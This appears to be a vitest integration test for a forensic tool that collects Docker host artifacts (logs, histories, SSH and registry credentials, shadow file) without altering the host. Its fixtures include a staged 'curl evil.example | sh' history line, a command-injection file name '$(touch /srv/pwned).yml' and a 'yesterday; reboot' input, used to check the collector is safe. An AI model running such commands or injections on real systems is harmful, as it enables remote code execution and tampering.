import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type FrameSet, parseFrames } from '../../src/main/analyze/formats/frames';
import { hostFilesOf } from '../../src/main/analyze/formats/host-files';
import { vethsOf } from '../../src/main/analyze/formats/veth';
import { hostFilesCommand, type Part } from '../../src/main/collect/host-files';
import { connectHost } from '../../src/main/docker/connect';
import type { HostSession } from '../../src/main/docker/session';
import { listTargets } from '../../src/main/docker/targets';
import { withAccessLog } from '../../src/main/hosts/access';
import type { Target } from '../../src/shared/domain';
import { at, body, type Collected, collectIn, filesOf, missed, seen, taken } from '../kit/collected';
import { type LabHost, labAvailable, startHost } from '../lab';
import { CHROOT, clearContext, SECRET, stageContext, traces } from './host-context.stage';

const reason = await labAvailable();

const HOST = [
  ...['firewall', 'network', 'logins', 'auth-log', 'audit', 'histories', 'kernel', 'users', 'cron', 'ssh', 'packages'],
  ...['pods', 'compose', 'disk', 'time-sync', 'contexts', 'tools'],
].map((name) => `host.${name}`);
const ALL = ['engine.journal', ...HOST];

describe.skipIf(reason !== undefined)(`the host around a container${reason ? ` (skipped: ${reason})` : ''}`, () => {
  let host: LabHost;
  let session: HostSession;
  let targets: Target[];
  let dir: string;
  let all: Collected;
  let before: string[];
  let after: string[];

  const collect = (ids: string[], inputs?: Record<string, unknown>) =>
    collectIn(dir, { session, targets }, ids, { inputs });

  beforeAll(async () => {
    host = await startHost('ctx1');
    await stageContext(host);
    dir = await mkdtemp(join(tmpdir(), 'lading-context-'));
    session = await withAccessLog([], () => connectHost(host.spec, { configDir: dir }));
    targets = await withAccessLog([], () => listTargets(session));
    before = await traces(host);
    all = await collect(ALL);
    after = await traces(host);
  });

  afterAll(async () => {
    await session?.close();
    if (host) await clearContext(host);
    await host?.stop();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('leaves every file of the host as it was, by size, content change and status change', () => {
    expect(before.length).toBeGreaterThan(5000);
    expect(after).toEqual(before);
  });

  it('gives for each item an exhibit that parses, or a miss with its reason; nothing is partial or empty', async () => {
    for (const record of all.records) {
      expect([record.title, record.partial, record.reason]).toEqual([record.title, false, undefined]);
      expect(record.bytes).toBeGreaterThan(0);
      if (record.kind !== 'frames') continue;
      const set = parseFrames(await all.bytes(record));
      expect(set).toMatchObject({ source: record.collector.id, complete: true, faults: [] });
      for (const file of hostFilesOf(set).files) expect(file.path === '' && !file.absent).toBe(false);
    }
    for (const miss of all.misses) expect(miss.reason).toMatch(/\.$|link to|paths that are none/);
    for (const item of all.plan.items.filter((one) => !one.impossible)) {
      const count =
        taken(all, item.collector, item.target.name).length + missed(all, item.collector, item.target.name).length;
      expect([item.key, count > 0]).toEqual([item.key, true]);
    }
  });

  it('logs in a time window: older files are left out and named, the journal is asked for the window', async () => {
    const whole = await filesOf(all, 'host.auth-log');
    expect(body(at(whole, '/var/log/auth.log.1'))).toContain('old login');
    expect(gunzipSync(at(whole, '/var/log/auth.log.2.gz')?.content?.body ?? Buffer.alloc(0)).toString()).toContain(
      'older login',
    );
    expect(whole.commands.get('journal')?.output?.body.toString()).toContain('MESSAGE=sshd let somebody in');
    const inputs = { 'host.auth-log': { since: '2026-01-01T00:00:00Z', until: '2026-01-02T00:00:00+01:00' } };
    const windowed = await collect(['host.auth-log'], inputs);
    const files = await filesOf(windowed, 'host.auth-log');
    expect(body(at(files, '/var/log/auth.log'))).toContain('new login');
    expect(seen(at(files, '/var/log/auth.log.1'))).toMatchObject({
      content: undefined,
      left: expect.stringContaining('before'),
    });
    expect(files.commands.get('journal')?.output).toBeUndefined();
    expect(files.commands.get('journal')?.left).toContain('no such entry');
    const wrong = await collect(['host.auth-log'], { 'host.auth-log': { since: 'yesterday; reboot' } });
    expect(wrong.plan.items[0]?.impossible).toContain('a time like 2026-11-25T03:00:00Z');
    expect(wrong.records).toEqual([]);
  });

  it('engine.journal and host.logins take what there is', async () => {
    const journal = await filesOf(all, 'engine.journal');
    expect(body(at(journal, '/var/log/dockerd.log'))).toContain('API listen');
    const logins = await filesOf(all, 'host.logins');
    expect(at(logins, '/var/log/wtmp')?.stat?.size).toBe(0);
    expect(missed(all, 'host.pods').map((one) => one.outcome)).toEqual(['missing']);
  });

  it('host.contexts: registry passwords and contexts of every user, whole', async () => {
    const files = await filesOf(all, 'host.contexts');
    expect(JSON.parse(body(at(files, '/root/.docker/config.json')))).toEqual({
      auths: { 'registry.example': { auth: SECRET } },
    });
    const meta = '/home/eve user/.docker/contexts/meta/5bf1/meta.json';
    expect(JSON.parse(body(at(files, meta)))).toMatchObject({ Name: 'other' });
    expect(files.files.filter((one) => one.path.includes('mallory'))).toEqual([]);
  });

  it('host.tools: every program by path, hash and package; one that was put before it shows', async () => {
    const { commands } = await filesOf(all, 'host.tools');
    const said = (name: string) => commands.get(name)?.output?.body.toString() ?? '';
    const cat = (await host.output(['sha256sum', '/usr/bin/cat'])).slice(0, 64);
    expect(said('paths')).toContain('cat\t/usr/bin/cat\t/usr/bin/cat\n');
    expect(said('sha256')).toContain(`${cat}  /usr/bin/cat\n`);
    expect(said('stat')).toMatch(/ \/usr\/bin\/cat$/m);
    expect(said('owner')).toMatch(/^coreutils: (\/usr)?\/bin\/cat$/m);
    expect(said('paths')).toContain('\nw\t/usr/local/bin/w\t/usr/local/bin/w\n');
    expect(said('owner')).not.toContain('/bin/w\n');
  });

  it('host.histories and host.ssh: every home, links named, no way out of a home', async () => {
    const histories = await filesOf(all, 'host.histories');
    expect(body(at(histories, '/home/eve user/.bash_history'))).toBe('curl evil.example | sh\n');
    expect(seen(at(histories, '/home/mallory/.bash_history'))).toMatchObject({ link: '/dev/null', content: undefined });
    expect(seen(at(histories, '/home/mallory/.zsh_history'))).toMatchObject({ content: undefined });
    expect(histories.homes).toEqual(expect.arrayContaining(['/root', '/home/eve user', '/home/mallory']));
    const ssh = await filesOf(all, 'host.ssh');
    expect(body(at(ssh, '/root/.ssh/authorized_keys'))).toContain('ssh-');
    expect(seen(at(ssh, '/home/mallory/.ssh/authorized_keys'))).toMatchObject({
      content: undefined,
      left: expect.stringContaining('leads out of /home/mallory, to'),
    });
    expect(body(at(ssh, '/etc/ssh/sshd_config'))).not.toBe('');
    for (const file of ssh.files) expect(body(file)).not.toContain('PRIVATE KEY');
  });

  it('host.compose: only what labels may name, and never a shell word', async () => {
    const files = await filesOf(all, 'host.compose');
    expect(body(at(files, '/srv/app/compose.yml'))).toContain('services:');
    expect(seen(at(files, '/srv/app/link.yml'))).toMatchObject({ link: '/srv/secret', content: undefined });
    expect(seen(at(files, '/proc/1/environ'))).toMatchObject({
      content: undefined,
      left: expect.stringContaining('/proc/1'),
    });
    expect(seen(at(files, '/srv/app/*.yml'))).toMatchObject({ absent: true });
    expect(seen(at(files, '/srv/app/gone.yml'))).toMatchObject({ absent: true });
    expect(seen(at(files, '/srv/app/$(touch /srv/pwned).yml'))).toMatchObject({ absent: true });
    expect((await host.exec(['test', '-e', '/srv/pwned'])).code).toBe(1);
    const [refused] = missed(all, 'host.compose');
    expect(refused?.reason).toContain('2 paths that are none');
  });

  it('host.users, host.packages, host.kernel, host.network, host.disk, host.firewall, host.cron, host.time-sync', async () => {
    expect(body(at(await filesOf(all, 'host.users'), '/etc/shadow'))).toMatch(/^root:/);
    expect(body(at(await filesOf(all, 'host.packages'), '/var/lib/dpkg/status'))).toContain('Package: docker.io\n');
    const kernel = await filesOf(all, 'host.kernel');
    expect(body(at(kernel, '/proc/sys/kernel/core_pattern'))).not.toBe('');
    expect(kernel.commands.get('dmesg')?.output?.length).toBeGreaterThan(0);
    expect(kernel.commands.get('bpf.programs')?.absent).toBe(true);
    const network = await filesOf(all, 'host.network');
    expect(network.commands.get('ip.addr')?.tool).toMatch(/\/ip$/);
    expect(JSON.parse(network.commands.get('ip.addr')?.output?.body.toString() ?? '')).toContainEqual(
      expect.objectContaining({ ifname: 'docker0' }),
    );
    expect(vethsOf(network).length).toBeGreaterThan(0);
    expect((await filesOf(all, 'host.disk')).commands.get('df')?.output?.body.toString()).toMatch(/^Filesystem/);
    expect((await filesOf(all, 'host.firewall')).commands.get('iptables')?.output?.body.toString()).toContain('DOCKER');
    expect(body(at(await filesOf(all, 'host.cron'), '/etc/crontab'))).toContain('evil-cron');
    expect(at(await filesOf(all, 'host.time-sync'), '/etc/localtime')?.stat).toBeDefined();
  });

  it('moves no access time of a file that it reads, where the host has GNU dd', async () => {
    const paths = ['/etc/shadow', '/var/log/dpkg.log', '/srv/app/compose.yml', '/var/log/auth.log'];
    const times = () => host.output(['stat', '-c', '%.9X', ...paths]);
    // older than mtime, so that a read would move them even with relatime
    await host.output(['touch', '-a', '-d', '2001-01-01T00:00:00Z', ...paths]);
    const then = await times();
    await collect(['host.users', 'host.packages', 'host.compose', 'host.auth-log']);
    expect(await times()).toBe(then);
  });

  it('says the same with busybox alone, but for what its stat does not know', async () => {
    const parts: Part[] = [
      { as: 'conf', files: ['/etc/passwd', '/etc/no-such-file', '/etc/cron.d/*'], limit: 20 },
      { as: 'link', files: ['/srv/app/link.yml'] },
      { as: 'link', files: ['/srv/app/link.yml'], follow: true },
      { as: 'list', list: ['/srv/app'], depth: 2 },
      { as: 'cmd', run: ['df', '-P', '-k'] },
      { as: 'cmd2', run: ['no-such-command'] },
      { homes: [{ as: 'history', files: ['.bash_history'] }] },
      {
        within: [
          ['/srv', 'gone'],
          ['/srv', 'app'],
        ],
        parts: [{ as: 'in', files: ['compose.yml', 'out/secret'] }],
      },
    ];
    const { argv, stdin } = hostFilesCommand('a.script', parts);
    const run = async (shell: string[]): Promise<FrameSet> => {
      const ran = await host.exec([...shell, ...argv.slice(1)], { input: stdin });
      expect({ code: ran.code, stderr: ran.stderr.toString() }).toEqual({ code: 0, stderr: '' });
      const set = parseFrames(ran.stdout);
      expect(set).toMatchObject({ complete: true, faults: [] });
      return set;
    };
    const gnu = await run(['dash']);
    const bash = await run(['bash', '--posix']);
    const busybox = await run(['unshare', '-m', 'sh', '-c', CHROOT, 'sh']);
    const shape = (set: FrameSet) =>
      set.frames
        .filter((one) => !one.name.endsWith('.tool'))
        .map((one) => [
          one.kind,
          one.name,
          one.outcome,
          one.exit,
          /(stat|list|^cmd)$/.test(one.name) ? '' : one.body.toString(),
        ]);
    expect(shape(bash)).toEqual(shape(gnu));
    // homes that this root does not have are not among those of the other
    const others = (set: FrameSet) => shape(set).filter(([, name]) => !String(name).startsWith('homes:'));
    expect(others(busybox)).toEqual(others(gnu));
    const listings = [gnu, busybox].map((set) =>
      (hostFilesOf(set).files.find((one) => one.as === 'list')?.listing?.files ?? [])
        .map((one) => [one.path, one.type, one.mode, one.size, one.target, Math.floor(one.mtime)].join(' '))
        .sort(),
    );
    expect(listings[0]?.length).toBeGreaterThan(3);
    expect(listings[1]).toEqual(listings[0]);
    const files = hostFilesOf(gnu);
    expect(at(files, '/etc/passwd')?.content).toMatchObject({ length: 20, outcome: 'truncated' });
    expect(files.files.filter((one) => one.path === '/srv/app/link.yml').map((one) => [one.real, body(one)])).toEqual([
      [undefined, ''],
      ['/srv/secret', `${SECRET}\n`],
    ]);
    expect(body(at(files, '/srv/app/compose.yml'))).toContain('services:');
    expect(at(files, '/srv/app/out/secret')?.left).toContain('leads out of /srv/app, to /srv');
  });
});
